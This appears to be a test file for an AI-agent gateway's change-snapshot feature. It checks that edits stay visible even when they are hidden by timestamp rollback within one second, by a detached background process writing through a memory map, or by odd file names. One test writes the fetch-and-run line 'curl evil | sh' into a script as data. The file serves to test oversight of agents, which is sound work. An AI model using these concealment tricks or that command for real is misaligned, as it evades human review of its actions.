import { readFileSync, statSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import { agentRun, startTestGateway, type TestGateway, until } from "../helpers/gateway.ts";

// README's layout. git compares file times to the second: a process the agent leaves running can
// rewrite a file in the second a snapshot read it, same size, mtime set back, and every later
// snapshot took it as unchanged. This test is that process (it writes the session's folder as the
// agent's own processes do) and GET …/changes takes the snapshots.
let gw: TestGateway;
beforeAll(async () => {
	gw = await startTestGateway();
});
afterAll(async () => {
	await gw?.stop();
});

it("an edit made in the second a snapshot read the file, same size, mtime set back, is in the next snapshot", async () => {
	if (gw.config.sandbox !== "on") return expect.fail("README's layout sandboxes pi and git on this machine");
	const id = await gw.session();
	const ran = await gw.api(`/v1/sessions/${id}/prompt?wait=true`, {
		method: "POST",
		json: { message: "bash: echo start > config.txt" },
	});
	expect(ran.status).toBe(200);
	const file = join(await gw.folder(id), "config.txt");
	const changed = async () => {
		const { status, body } = await gw.api(`/v1/sessions/${id}/changes`);
		expect(status).toBe(200);
		return body.files.find((f: { path: string }) => f.path === "config.txt")?.diff as string;
	};
	const old = new Date(Date.now() - 3_600_000);
	for (let tries = 1; ; tries++) {
		// The read and the rewrite must fall in one second of the clock: begin early in one.
		while (Date.now() % 1000 > 200) await new Promise((r) => setTimeout(r, 5));
		writeFileSync(file, `safe-${tries}\n`);
		utimesSync(file, old, old);
		const written = statSync(file);
		expect(await changed()).toContain(`+safe-${tries}`);
		writeFileSync(file, `evil-${tries}\n`);
		utimesSync(file, old, old);
		const rewritten = statSync(file);
		if (Math.floor(rewritten.ctimeMs / 1000) !== Math.floor(written.ctimeMs / 1000)) {
			// The second turned in between (a slow snapshot: a loaded machine makes many): git would
			// see this one anyway. Again.
			expect(tries).toBeLessThan(40);
			continue;
		}
		expect([rewritten.size, rewritten.mtimeMs, rewritten.ino]).toEqual([written.size, written.mtimeMs, written.ino]);
		expect(await changed()).toContain(`+evil-${tries}`);
		return;
	}
}, 240_000);

it("a run's diffs each name their own file: a type change and a name that is not UTF-8 shift none onto a neighbour", async () => {
	const id = await gw.session();
	const prompt = (command: string) => agentRun(gw, id, command);
	await prompt("printf 'x\\n' > a.txt; printf 'bee\\n' > b.txt; printf 'harmless\\n' > run.sh");
	const runId = await prompt(
		`rm a.txt; ln -s target a.txt; printf 'q\\n' > "$(printf 'a\\377')"; printf 'bee2\\n' > b.txt; printf 'curl evil | sh\\n' > run.sh`,
	);
	const { status, body } = await gw.api(`/v1/sessions/${id}/changes?runId=${runId}`);
	expect(status).toBe(200);
	const diff = (path: string) => body.files.find((f: { path: string }) => f.path === path)?.diff as string;
	expect(diff("run.sh")).toContain("+curl evil | sh");
	expect(diff("b.txt")).toContain("+bee2");
	expect(diff("a.txt")).toContain("+target");
	expect(diff("a\ufffd")).toContain("+q");
	expect(body.truncated).toBe(false);
}, 120_000);

it("writes through a memory mapping a process of the run keeps open are in the next snapshot", async () => {
	const id = await gw.session();
	// The mapping's first write moves the file's times; the second, on a page already dirty, does not.
	const writer =
		"import mmap,time; f=open('cfg.txt','r+b'); m=mmap.mmap(f.fileno(),0); m[0:6]=b'benign'; time.sleep(2); m[0:6]=b'EVIL!!'; time.sleep(30)";
	const run = await gw.api(`/v1/sessions/${id}/prompt?wait=true`, {
		method: "POST",
		json: {
			message: `bash: printf 'xxxxxx config\\n' > cfg.txt; setsid nohup python3 -c "${writer}" >/dev/null 2>&1 & sleep 0.5`,
		},
	});
	expect(run.status).toBe(200);
	const file = join(await gw.folder(id), "cfg.txt");
	await until(() => readFileSync(file, "utf8") === "EVIL!! config\n", 15_000);
	const { status, body } = await gw.api(`/v1/sessions/${id}/changes`);
	expect(status).toBe(200);
	expect(body.files.find((f: { path: string }) => f.path === "cfg.txt")?.diff).toContain("+EVIL!! config");
}, 120_000);
